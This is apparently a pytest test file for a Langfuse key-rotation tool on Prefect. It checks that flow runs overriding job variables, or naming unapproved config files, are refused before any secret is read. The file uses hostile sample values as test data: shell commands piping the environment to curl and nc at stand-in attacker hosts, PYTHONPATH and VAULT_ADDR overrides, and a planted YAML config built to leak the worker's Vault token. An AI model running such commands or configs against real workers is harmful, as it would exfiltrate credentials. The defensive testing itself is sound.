"""A run that overrides the work pool's job template, or names a configuration file the worker does
not allow, is refused (docs/trust-boundary.md).

Whoever can call the Prefect API can create a flow run with job variables (another ``env``,
``command`` or ``working_dir``) that a process worker applies on top of the pool's template, or
with a ``config_path`` parameter naming any YAML file the worker can read (a store address of the
caller's choosing, its token from the worker's environment); the worker's environment holds the
store credentials and the organization key. The flows refuse such a run before reading the
configuration or any secret.

The slow tests create real deployments on a real Prefect server and execute their flow runs the
way a process worker does (``prefect flow-run execute <id>`` in the worker's checkout).
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import subprocess
import sys
import uuid
from pathlib import Path
from typing import Any

import pytest
import yaml

from devstack.prefect_server import PrefectServer
from devstack.sinks import JsonSink
from flows.prefect.trust import ALLOW_CONFIG_PATH_ENV_VAR, allowed_config_path, overridden_job_variables
from tests.hostile_http import Recorder

REPO = Path(__file__).resolve().parents[2]
POOL = "trust-boundary-test"


def test_only_harmless_job_variables_are_allowed() -> None:
    assert overridden_job_variables({}, None) == []
    assert overridden_job_variables({"labels": {"a": "b"}, "stream_output": False, "name": "x"}) == []
    assert overridden_job_variables({"env": {"PYTHONPATH": "/tmp/evil"}}) == ["env"]
    assert overridden_job_variables({"env": {}}, {"command": "sh -c 'env | curl -d @- evil'"}) == ["command"]
    assert overridden_job_variables({"working_dir": "/tmp/evil", "image": "x"}) == ["image", "working_dir"]


def _run_deployment(
    server: PrefectServer,
    entrypoint: str,
    flow_name: str,
    parameters: dict[str, Any],
    worker_env: dict[str, str] | None = None,
    **job: Any,
) -> Any:
    """Create a deployment and a flow run of it with ``job`` variables, execute it as a process
    worker would (in an environment with ``worker_env`` added), and return the flow run as the
    server has it afterwards."""
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.actions import WorkPoolCreate
    from prefect.exceptions import ObjectAlreadyExists

    with get_client(sync_client=True) as client:
        with contextlib.suppress(ObjectAlreadyExists):
            client.create_work_pool(WorkPoolCreate(name=POOL, type="process"))
        flow_id = client.create_flow_from_name(flow_name)
        deployment_id = client.create_deployment(
            flow_id=flow_id,
            name=f"trust-{uuid.uuid4().hex[:8]}",
            entrypoint=entrypoint,
            work_pool_name=POOL,
            path=str(REPO),
        )
        run = client.create_flow_run_from_deployment(deployment_id, parameters=parameters, job_variables=job or None)
    env = server.client_env({k: v for k, v in os.environ.items() if not k.startswith("LANGFUSE_ROTATE_")})
    env.update(worker_env or {})
    prefect = shutil.which("prefect", path=str(Path(sys.executable).parent)) or "prefect"
    proc = subprocess.run(
        [prefect, "flow-run", "execute", str(run.id)], env=env, cwd=REPO, capture_output=True, text=True, timeout=300
    )
    with get_client(sync_client=True) as client:
        final = client.read_flow_run(run.id)
    assert final.state is not None and final.state.is_final(), proc.stdout[-2000:] + proc.stderr[-2000:]
    return final


@pytest.mark.slow
@pytest.mark.parametrize(
    ("entrypoint", "flow_name", "parameters"),
    [
        ("flows/rotate.py:rotate", "langfuse-key-rotation", {"project": "chatbot-prod"}),
        ("flows/emergency.py:emergency", "langfuse-key-emergency", {"project": "chatbot-prod"}),
        ("flows/reconcile.py:reconcile", "langfuse-key-reconcile", {}),
        ("flows/rotate.py:rotate_all", "langfuse-key-rotation-all", {}),
    ],
    ids=["rotate", "emergency", "reconcile", "quarterly"],
)
def test_a_run_that_overrides_the_workers_environment_is_refused_before_reading_the_config(
    prefect_server: PrefectServer, tmp_path: Path, entrypoint: str, flow_name: str, parameters: dict[str, Any]
) -> None:
    missing = str(tmp_path / "no-such-config.yaml")
    run = _run_deployment(
        prefect_server,
        entrypoint,
        flow_name,
        {**parameters, "config_path": missing},
        {"XDG_STATE_HOME": str(tmp_path / "state")},
        env={"LANGFUSE_ROTATE_CONFIG": "/tmp/attacker.yaml", "PYTHONPATH": "/tmp/attacker"},
    )
    assert run.state.is_failed()
    assert "refused: this run overrides the work pool's job template (env)" in (run.state.message or "")
    # Audited at the default path: the run set the environment, so no configuration it names is read.
    audit = tmp_path / "state" / "langfuse-rotate" / "audit.jsonl"
    lines = [json.loads(line) for line in audit.read_text().splitlines()]
    assert [(line["langfuse_rotate"]["outcome"], line["langfuse_rotate"]["final"]) for line in lines] == [
        ("refused", True)
    ]


@pytest.mark.slow
def test_a_run_that_overrides_the_command_or_working_dir_is_refused(
    prefect_server: PrefectServer, tmp_path: Path
) -> None:
    # The command below is the default one, so the flow still runs and can refuse; a command that
    # skips the flow entirely can only be stopped by the pool's base job template (README).
    run = _run_deployment(
        prefect_server,
        "flows/rotate.py:rotate",
        "langfuse-key-rotation",
        {"project": "chatbot-prod", "config_path": str(tmp_path / "none.yaml")},
        command="prefect flow-run execute",
        working_dir=str(tmp_path),
    )
    assert run.state.is_failed()
    assert "(command, working_dir)" in (run.state.message or "")


@pytest.mark.slow
def test_a_run_without_overrides_goes_on_to_read_its_config(prefect_server: PrefectServer, tmp_path: Path) -> None:
    missing = tmp_path / "no-such-config.yaml"
    run = _run_deployment(
        prefect_server,
        "flows/rotate.py:rotate",
        "langfuse-key-rotation",
        {"project": "chatbot-prod", "config_path": str(missing)},
        {ALLOW_CONFIG_PATH_ENV_VAR: str(missing)},
        labels={"team": "platform"},
    )
    assert run.state.is_failed()
    assert "refused" not in (run.state.message or "")
    assert "cannot read configuration" in (run.state.message or "")


TEMPLATE = REPO / "deployments" / "process-work-pool-template.json"
HOSTILE = {
    "command": "sh -c 'env | nc attacker 9'",
    "env": {"LANGFUSE_ROTATE_CONFIG": "/tmp/attacker.yaml", "PYTHONPATH": "/tmp/attacker"},
    "env.VAULT_ADDR": "http://attacker:8200",
    "working_dir": "/tmp/attacker",
}


def _resolved(template: dict[str, Any]) -> Any:
    """The job configuration a process worker builds from ``template`` and the hostile job variables
    (the worker resolves block and variable references through the server)."""
    import asyncio

    from prefect.client.orchestration import get_client
    from prefect.workers.process import ProcessJobConfiguration

    async def resolve() -> Any:
        async with get_client() as client:
            return await ProcessJobConfiguration.from_template_and_values(template, HOSTILE, client=client)

    return asyncio.run(resolve())


@pytest.mark.slow
def test_the_shipped_work_pool_template_ignores_command_env_and_working_dir_overrides(
    prefect_server: PrefectServer,
) -> None:
    import json

    config = _resolved(json.loads(TEMPLATE.read_text()))
    assert config.command is None  # the worker's own python -m prefect.engine
    assert config.env == {}
    assert config.working_dir is None


@pytest.mark.slow
def test_prefects_default_process_template_applies_them(prefect_server: PrefectServer) -> None:
    from prefect.workers.process import ProcessWorker

    config = _resolved(ProcessWorker.get_default_base_job_template())
    assert config.command == HOSTILE["command"]
    assert config.env["LANGFUSE_ROTATE_CONFIG"] == "/tmp/attacker.yaml"
    assert config.env["VAULT_ADDR"] == "http://attacker:8200"


# --- config_path: a deployment run reads only the files the worker allows ----------------------


def test_a_run_without_config_path_reads_the_workers_own_configuration() -> None:
    assert allowed_config_path(None, {}) == (True, None)
    assert allowed_config_path("", {}) == (True, None)


def test_a_config_path_is_refused_unless_the_worker_allows_it() -> None:
    assert allowed_config_path("/srv/shared/x.yaml", {}) == (False, None)
    assert allowed_config_path("/srv/shared/x.yaml", {ALLOW_CONFIG_PATH_ENV_VAR: ""}) == (False, None)
    assert allowed_config_path("/srv/shared/x.yaml", {ALLOW_CONFIG_PATH_ENV_VAR: "0"}) == (False, None)


def test_the_worker_allows_listed_files_compared_after_lexical_normalisation() -> None:
    env = {ALLOW_CONFIG_PATH_ENV_VAR: f"/etc/rotate/a.yaml{os.pathsep}/etc/rotate/b.yaml"}
    assert allowed_config_path("/etc/rotate/b.yaml", env) == (True, "/etc/rotate/b.yaml")
    # The file read is the normalised one: ``link/..`` cannot lead through a symbolic link elsewhere.
    assert allowed_config_path("/etc/rotate/link/../a.yaml", env) == (True, "/etc/rotate/a.yaml")
    assert allowed_config_path("/etc/rotate/c.yaml", env) == (False, None)
    assert allowed_config_path("/etc/rotate/a.yaml.bak", env) == (False, None)


def test_relative_entries_in_the_allow_list_allow_nothing() -> None:
    env = {ALLOW_CONFIG_PATH_ENV_VAR: "rotation.yaml"}
    assert allowed_config_path("rotation.yaml", env) == (False, None)


def test_the_workers_own_configuration_file_is_always_allowed() -> None:
    env = {"LANGFUSE_ROTATE_CONFIG": "/etc/rotate/rotation.yaml"}
    assert allowed_config_path("/etc/rotate/rotation.yaml", env) == (True, "/etc/rotate/rotation.yaml")


@pytest.mark.parametrize("value", ["1", "any", "ANY"])
def test_the_worker_may_allow_any_file(value: str) -> None:
    assert allowed_config_path("/srv/shared/x.yaml", {ALLOW_CONFIG_PATH_ENV_VAR: value}) == (
        True,
        "/srv/shared/x.yaml",
    )


def _worker_config(tmp_path: Path, sink: JsonSink) -> Path:
    """The worker's own configuration: its audit file and its notification sink."""
    path = tmp_path / "worker.yaml"
    config = {
        "langfuse": {"host": "http://127.0.0.1:9", "org_public_key": "pk-lf-org", "org_secret_key": "sk-lf-org"},
        "stores": {"main": {"kind": "vault", "url": "http://127.0.0.1:9", "token": "s.unused", "mount": "secret"}},
        "projects": [{"name": "chatbot-prod", "project_id": "p1", "store": "main", "path": "langfuse/chatbot-prod"}],
        "notify": {"urls": [f"json://{sink.url.removeprefix('http://')}/hook"]},
        "audit": {"path": str(tmp_path / "worker-audit.jsonl")},
    }
    path.write_text(yaml.safe_dump(config, sort_keys=False))
    return path


def _attacker_config(tmp_path: Path, listener: str) -> Path:
    """A configuration anyone could leave in a shared directory: its store and Langfuse are the
    attacker's listener, and the store's token is left to the worker's ``VAULT_TOKEN``."""
    path = tmp_path / "shared" / "attacker.yaml"
    path.parent.mkdir()
    config = {
        "langfuse": {
            "host": listener,
            "org_public_key": "${LANGFUSE_ORG_PUBLIC_KEY}",
            "org_secret_key": "${LANGFUSE_ORG_SECRET_KEY}",
        },
        "stores": {"main": {"kind": "vault", "url": listener, "mount": "secret"}},
        "projects": [{"name": "chatbot-prod", "project_id": "p1", "store": "main", "path": "langfuse/chatbot-prod"}],
        "notify": {"urls": [f"json://{listener.removeprefix('http://')}/hook?token=${{VAULT_TOKEN}}"]},
        "audit": {"path": str(tmp_path / "shared" / "attacker-audit.jsonl")},
    }
    path.write_text(yaml.safe_dump(config, sort_keys=False))
    return path


WORKER_VAULT_TOKEN = "s.worker-vault-token-0123456789"


@pytest.mark.slow
@pytest.mark.parametrize(
    ("entrypoint", "flow_name", "parameters"),
    [
        ("flows/rotate.py:rotate", "langfuse-key-rotation", {"project": "chatbot-prod"}),
        ("flows/emergency.py:emergency", "langfuse-key-emergency", {"project": "chatbot-prod"}),
        ("flows/reconcile.py:reconcile", "langfuse-key-reconcile", {}),
        ("flows/rotate.py:rotate_all", "langfuse-key-rotation-all", {}),
        ("flows/rotate.py:rotate_all", "langfuse-key-rotation-all", {"entries": ["chatbot-prod"], "summary": False}),
        ("flows/report_flow.py:compliance_report", "langfuse-compliance-report", {}),
    ],
    ids=["rotate", "emergency", "reconcile", "quarterly", "fleet-batch", "compliance"],
)
def test_a_deployment_run_naming_a_config_file_the_worker_does_not_allow_is_refused_before_reading_it(
    prefect_server: PrefectServer,
    json_sink: JsonSink,
    tmp_path: Path,
    entrypoint: str,
    flow_name: str,
    parameters: dict[str, Any],
) -> None:
    worker_config = _worker_config(tmp_path, json_sink)
    with Recorder() as attacker:
        hostile = _attacker_config(tmp_path, attacker.url)
        run = _run_deployment(
            prefect_server,
            entrypoint,
            flow_name,
            {**parameters, "config_path": str(hostile)},
            {
                "LANGFUSE_ROTATE_CONFIG": str(worker_config),
                "VAULT_TOKEN": WORKER_VAULT_TOKEN,
                "LANGFUSE_ORG_PUBLIC_KEY": "pk-lf-worker-org",
                "LANGFUSE_ORG_SECRET_KEY": "sk-lf-worker-org-secret",
                "LANGFUSE_ROTATE_LOCK_DIR": str(tmp_path / "locks"),
            },
        )
        assert attacker.seen == []  # nothing, let alone the worker's token, went to the attacker
    assert run.state.is_failed()
    message = run.state.message or ""
    assert "refused: this deployment run names a configuration file (config_path)" in message
    assert ALLOW_CONFIG_PATH_ENV_VAR in message
    assert not (tmp_path / "shared" / "attacker-audit.jsonl").exists()
    lines = [json.loads(line) for line in (tmp_path / "worker-audit.jsonl").read_text().splitlines()]
    assert [line["langfuse_rotate"]["outcome"] for line in lines] == ["refused"]
    assert lines[0]["langfuse_rotate"]["final"] is True
    assert "config_path" in lines[0]["langfuse_rotate"]["error"]
    assert lines[0]["langfuse_rotate"]["initiator"]["type"] == "prefect-deployment"
    notices = json_sink.wait_for(1, timeout_s=30)
    assert "config_path" in notices[0].json["message"]
    assert (
        WORKER_VAULT_TOKEN not in json.dumps([n.json for n in notices]) + (tmp_path / "worker-audit.jsonl").read_text()
    )


@pytest.mark.slow
def test_a_deployment_run_may_name_a_config_file_the_worker_allows(
    prefect_server: PrefectServer, json_sink: JsonSink, tmp_path: Path
) -> None:
    worker_config = _worker_config(tmp_path, json_sink)
    allowed = tmp_path / "allowed.yaml"
    allowed.write_text(worker_config.read_text().replace("worker-audit.jsonl", "allowed-audit.jsonl"))
    run = _run_deployment(
        prefect_server,
        "flows/rotate.py:rotate",
        "langfuse-key-rotation",
        {"project": "no-such-entry", "config_path": str(allowed)},
        {"LANGFUSE_ROTATE_CONFIG": str(worker_config), ALLOW_CONFIG_PATH_ENV_VAR: str(allowed)},
    )
    assert run.state.is_failed()
    assert "refused" not in (run.state.message or "")
    assert "unknown project 'no-such-entry'" in (run.state.message or "")  # read the allowed file
    assert (tmp_path / "allowed-audit.jsonl").exists()
    assert not (tmp_path / "worker-audit.jsonl").exists()
